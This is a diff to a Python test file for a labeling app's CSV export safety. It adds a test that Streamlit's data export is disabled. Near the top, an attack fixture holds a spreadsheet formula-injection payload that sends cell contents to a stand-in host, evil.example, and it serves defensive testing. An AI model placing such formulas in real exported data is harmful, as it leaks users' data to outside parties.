@@ -15,6 +15,7 @@ import pytest
 from eval.readers import golden_from_records, run_from_frame
 from eval.report import build_report
 from labeler import live
+from labeler.launch import streamlit_command
 
 ATTACKS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -107,3 +108,9 @@ def test_every_csv_goldset_writes_goes_through_inert_csv():
     assert writers - NOT_WRITTEN_OUT == {"labeler/live/downloads.py"}
     source = (root / "labeler/live/downloads.py").read_text(encoding="utf-8")
     assert len(CSV_WRITER.findall(source)) == 1  # the one in inert_csv
+
+
+def test_the_app_offers_no_raw_csv_of_its_tables():
+    # Streamlit's table toolbar writes its own CSV, data text as it is: the app turns it off.
+    flags = streamlit_command("127.0.0.1", 8501)
+    assert flags[flags.index("--client.disableDataExport") + 1] == "true"
